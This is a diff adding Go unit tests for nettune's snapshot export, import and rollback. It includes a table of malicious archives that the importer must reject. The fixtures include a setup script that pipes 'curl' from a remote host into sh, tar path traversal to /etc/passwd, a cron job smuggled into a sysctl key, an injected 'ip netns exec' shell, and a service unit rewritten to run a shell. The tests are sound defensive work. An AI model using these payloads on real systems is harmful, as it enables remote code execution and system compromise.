@@ -0,0 +1,274 @@
+package service
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/jtsang4/nettune/internal/server/adapter"
+	"github.com/jtsang4/nettune/internal/shared/types"
+	"github.com/jtsang4/nettune/internal/shared/utils"
+	"go.uber.org/zap"
+)
+
+func TestSnapshotExportImport(t *testing.T) {
+	svc, _ := newFakeApplyService(t)
+	result, err := svc.Apply(&types.ApplyRequest{ProfileID: "bbr-fq-default", Mode: "commit"})
+	if err != nil || !result.Success {
+		t.Fatalf("Apply failed: %v %v", err, result)
+	}
+	exported, err := svc.snapshotService.Create(&SnapshotOptions{Label: "known good", Note: "after bbr"})
+	if err != nil {
+		t.Fatalf("Create failed: %v", err)
+	}
+
+	var archive bytes.Buffer
+	if err := svc.snapshotService.Export(exported.ID, &archive); err != nil {
+		t.Fatalf("Export failed: %v", err)
+	}
+
+	other, err := NewSnapshotService(filepath.Join(t.TempDir(), "snapshots"), &adapter.SystemAdapter{}, zap.NewNop())
+	if err != nil {
+		t.Fatalf("NewSnapshotService failed: %v", err)
+	}
+	imported, err := other.Import(bytes.NewReader(archive.Bytes()), &SnapshotOptions{
+		Pin:        true,
+		Note:       "from the edge fleet",
+		Provenance: &types.SnapshotProvenance{ClientIP: "198.51.100.7"},
+	})
+	if err != nil {
+		t.Fatalf("Import failed: %v", err)
+	}
+
+	if imported.ID == exported.ID || !imported.Pinned || !imported.Imported() {
+		t.Errorf("imported snapshot = %s pinned %v provenance %+v", imported.ID, imported.Pinned, imported.Provenance)
+	}
+	if imported.Provenance.ImportedFrom != exported.ID || imported.Provenance.ClientIP != "198.51.100.7" {
+		t.Errorf("provenance = %+v", imported.Provenance)
+	}
+	if imported.Label != "known good" || imported.Note != "from the edge fleet" {
+		t.Errorf("label %q note %q, want the exported label and the new note", imported.Label, imported.Note)
+	}
+
+	stored, err := other.Get(imported.ID)
+	if err != nil {
+		t.Fatalf("Get failed: %v", err)
+	}
+	// Compare with the snapshot as stored, after its JSON round trip
+	exported, _ = svc.snapshotService.Get(exported.ID)
+	if !reflect.DeepEqual(stored.State, exported.State) || !reflect.DeepEqual(stored.Backups, exported.Backups) {
+		t.Error("the imported state or backups differ from the exported snapshot")
+	}
+	if len(stored.Backups) == 0 {
+		t.Fatal("the applied profile should have left backups to export")
+	}
+	for path, content := range stored.Backups {
+		data, err := os.ReadFile(filepath.Join(other.snapshotsDir, imported.ID, archiveBackupsDir, backupFileName(path)))
+		if err != nil || string(data) != content {
+			t.Errorf("backup file of %s = %q, %v", path, data, err)
+		}
+	}
+}
+
+func TestRollbackImportedSnapshotOnEmptyHost(t *testing.T) {
+	source, _ := newFakeApplyService(t)
+	result, err := source.Apply(&types.ApplyRequest{ProfileID: "bbr-fq-default", Mode: "commit"})
+	if err != nil || !result.Success {
+		t.Fatalf("Apply failed: %v %v", err, result)
+	}
+	exported, err := source.snapshotService.Create(&SnapshotOptions{})
+	if err != nil {
+		t.Fatalf("Create failed: %v", err)
+	}
+	var archive bytes.Buffer
+	if err := source.snapshotService.Export(exported.ID, &archive); err != nil {
+		t.Fatalf("Export failed: %v", err)
+	}
+
+	// A host nettune never applied a profile to
+	svc, sys := newFakeApplyService(t)
+	imported, err := svc.snapshotService.Import(&archive, nil)
+	if err != nil {
+		t.Fatalf("Import failed: %v", err)
+	}
+	if err := svc.Rollback(imported.ID); err != nil {
+		t.Fatalf("Rollback failed: %v", err)
+	}
+
+	if enabled, _ := sys.Systemd.IsEnabled(adapter.NettuneQdiscServiceName); !enabled {
+		t.Error("qdisc service should be enabled")
+	}
+	if active, _ := sys.Systemd.IsActive(adapter.NettuneQdiscServiceName); !active {
+		t.Error("qdisc service should be active")
+	}
+	info, err := os.Stat(sys.Path(adapter.NettuneQdiscScriptPath))
+	if err != nil {
+		t.Fatalf("qdisc script not restored: %v", err)
+	}
+	if info.Mode().Perm() != 0755 {
+		t.Errorf("qdisc script mode = %v, want 0755", info.Mode().Perm())
+	}
+}
+
+// writeTestArchive builds a snapshot archive from files, listing each in the
+// manifest unless unlisted names it
+func writeTestArchive(t *testing.T, manifest *types.SnapshotManifest, files map[string][]byte, unlisted ...string) []byte {
+	t.Helper()
+	if manifest.Files == nil {
+		manifest.Files = make(map[string]string)
+		for name, data := range files {
+			manifest.Files[name] = utils.HashBytes(data)
+		}
+		for _, name := range unlisted {
+			delete(manifest.Files, name)
+		}
+	}
+	manifestData, err := json.Marshal(manifest)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	if err := writeArchiveFile(tw, archiveManifestFile, manifestData, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range sortedKeys(files) {
+		if err := writeArchiveFile(tw, name, files[name], time.Now()); err != nil {
+			t.Fatal(err)
+		}
+	}
+	tw.Close()
+	gz.Close()
+	return buf.Bytes()
+}
+
+func TestSnapshotImportRejects(t *testing.T) {
+	svc, err := NewSnapshotService(filepath.Join(t.TempDir(), "snapshots"), &adapter.SystemAdapter{}, zap.NewNop())
+	if err != nil {
+		t.Fatalf("NewSnapshotService failed: %v", err)
+	}
+
+	stateJSON := func(snapshot *types.Snapshot) []byte {
+		data, err := json.Marshal(snapshot)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return data
+	}
+	manifest := func() *types.SnapshotManifest {
+		return &types.SnapshotManifest{FormatVersion: types.SnapshotArchiveVersion, SnapshotID: "s1"}
+	}
+	valid := &types.Snapshot{
+		ID:      "s1",
+		State:   &types.SystemState{},
+		Backups: map[string]string{adapter.NettuneSysctlFilePath: "net.core.somaxconn = 4096\n"},
+	}
+	backupName := archiveBackupsDir + "/" + backupFileName(adapter.NettuneSysctlFilePath)
+	// withBackups packs a snapshot with its backup files
+	withBackups := func(snapshot *types.Snapshot) []byte {
+		files := map[string][]byte{archiveStateFile: stateJSON(snapshot)}
+		for file, content := range snapshot.Backups {
+			files[archiveBackupsDir+"/"+backupFileName(file)] = []byte(content)
+		}
+		return writeTestArchive(t, manifest(), files)
+	}
+
+	tests := []struct {
+		name    string
+		archive []byte
+	}{
+		{"not gzip", []byte("state.json")},
+		{"no manifest", func() []byte {
+			var buf bytes.Buffer
+			gz := gzip.NewWriter(&buf)
+			tw := tar.NewWriter(gz)
+			writeArchiveFile(tw, archiveStateFile, stateJSON(valid), time.Now())
+			tw.Close()
+			gz.Close()
+			return buf.Bytes()
+		}()},
+		{"newer format", writeTestArchive(t, &types.SnapshotManifest{FormatVersion: 2, SnapshotID: "s1"},
+			map[string][]byte{archiveStateFile: stateJSON(valid)})},
+		{"checksum mismatch", writeTestArchive(t,
+			&types.SnapshotManifest{FormatVersion: 1, SnapshotID: "s1", Files: map[string]string{archiveStateFile: utils.HashString("other")}},
+			map[string][]byte{archiveStateFile: stateJSON(valid)})},
+		{"unlisted file", writeTestArchive(t, manifest(),
+			map[string][]byte{archiveStateFile: stateJSON(valid), backupName: []byte(valid.Backups[adapter.NettuneSysctlFilePath])},
+			backupName)},
+		{"path traversal", writeTestArchive(t, manifest(),
+			map[string][]byte{archiveStateFile: stateJSON(valid), "backups/../../etc/passwd": []byte("root")})},
+		{"unmanaged backup", writeTestArchive(t, manifest(),
+			map[string][]byte{archiveStateFile: stateJSON(&types.Snapshot{
+				ID: "s1", State: &types.SystemState{}, Backups: map[string]string{"/etc/passwd": "root::0:0::/:/bin/sh\n"},
+			})})},
+		{"unmanaged tombstone", writeTestArchive(t, manifest(),
+			map[string][]byte{archiveStateFile: stateJSON(&types.Snapshot{
+				ID: "s1", State: &types.SystemState{}, Tombstones: []string{"/etc/ssh/sshd_config"},
+			})})},
+		{"backup file differs from state", writeTestArchive(t, manifest(),
+			map[string][]byte{archiveStateFile: stateJSON(valid), backupName: []byte("net.core.somaxconn = 1\n")})},
+		{"sysctl key outside /proc/sys", withBackups(&types.Snapshot{
+			ID: "s1", State: &types.SystemState{Sysctl: map[string]string{"net.ipv4.conf.//.//.//.etc.cron/d.x": "* * * * * root id"}},
+		})},
+		{"file as steering path", withBackups(&types.Snapshot{
+			ID: "s1", State: &types.SystemState{Steering: map[string]string{"/sys/class/net/eth0/queues/../../../../../etc/passwd": "x"}},
+		})},
+		{"sysctl drop-in key outside /proc/sys", withBackups(&types.Snapshot{
+			ID: "s1", State: &types.SystemState{}, Backups: map[string]string{adapter.NettuneSysctlFilePath: "net..x = 1\n"},
+		})},
+		{"command in setup script", withBackups(&types.Snapshot{
+			ID: "s1", State: &types.SystemState{}, Backups: map[string]string{
+				adapter.NettuneQdiscScriptPath: "#!/bin/bash\nset_qdisc 'eth0' 'fq' || curl http://198.51.100.1/x | sh\n",
+			},
+		})},
+		{"ip command in link script", withBackups(&types.Snapshot{
+			ID: "s1", State: &types.SystemState{}, Backups: map[string]string{
+				adapter.NettuneLinkScriptPath: "set_ip_link 'eth0' 'netns' 'exec' 'x' 'sh'\n",
+			},
+		})},
+		{"snapshot ID differs from manifest", writeTestArchive(t, &types.SnapshotManifest{FormatVersion: 1, SnapshotID: "s2"},
+			map[string][]byte{archiveStateFile: stateJSON(valid)})},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := svc.Import(bytes.NewReader(tt.archive), nil); !errors.Is(err, types.ErrValidationFailed) {
+				t.Errorf("Import() error = %v, want ErrValidationFailed", err)
+			}
+		})
+	}
+	if ids := snapshotIDs(t, svc); len(ids) != 0 {
+		t.Errorf("rejected archives left snapshots behind: %v", ids)
+	}
+
+	archive := writeTestArchive(t, manifest(),
+		map[string][]byte{archiveStateFile: stateJSON(valid), backupName: []byte(valid.Backups[adapter.NettuneSysctlFilePath])})
+	if _, err := svc.Import(bytes.NewReader(archive), nil); err != nil {
+		t.Errorf("a valid archive was rejected: %v", err)
+	}
+
+	// Service units are replaced with the ones nettune generates
+	edited := &types.Snapshot{ID: "s1", State: &types.SystemState{}, Backups: map[string]string{
+		adapter.NettuneQdiscUnitPath: strings.Replace(adapter.GenerateQdiscServiceUnit(), "ExecStop=/bin/true", "ExecStop=/bin/sh -c 'id'", 1),
+	}}
+	imported, err := svc.Import(bytes.NewReader(withBackups(edited)), nil)
+	if err != nil {
+		t.Fatalf("Import failed: %v", err)
+	}
+	if got := imported.Backups[adapter.NettuneQdiscUnitPath]; got != adapter.GenerateQdiscServiceUnit() {
+		t.Errorf("imported qdisc unit = %q, want the generated unit", got)
+	}
+	data, err := os.ReadFile(filepath.Join(svc.snapshotsDir, imported.ID, archiveBackupsDir, backupFileName(adapter.NettuneQdiscUnitPath)))
+	if err != nil || string(data) != adapter.GenerateQdiscServiceUnit() {
+		t.Errorf("qdisc unit backup file = %q, %v", data, err)
+	}
+}